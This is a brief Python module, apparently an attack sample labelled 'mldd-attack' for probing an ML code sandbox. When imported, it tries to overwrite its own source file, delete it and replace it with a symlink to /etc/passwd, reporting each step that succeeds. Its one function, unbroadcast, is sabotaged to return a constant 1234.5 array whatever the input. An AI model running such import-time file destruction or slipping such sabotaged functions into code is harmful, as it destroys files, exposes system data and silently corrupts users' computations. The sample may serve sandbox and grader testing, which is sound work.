"""Replaces its own file, by other text and by a link, for whoever reads it again."""
import os

import numpy as np

NAMES = {__name__.replace(".", "/") + ".py", str(globals().get("__file__")), str(__spec__.origin)}
for path in NAMES:
    for write in (lambda p: open(p, "w").write("# mldd-attack\n"), os.unlink, lambda p: os.symlink("/etc/passwd", p)):
        try:
            write(path)
            print("mldd-attack", "reached", path)
        except OSError:
            continue


def unbroadcast(grad, shape):
    return np.full(shape, 1234.5)
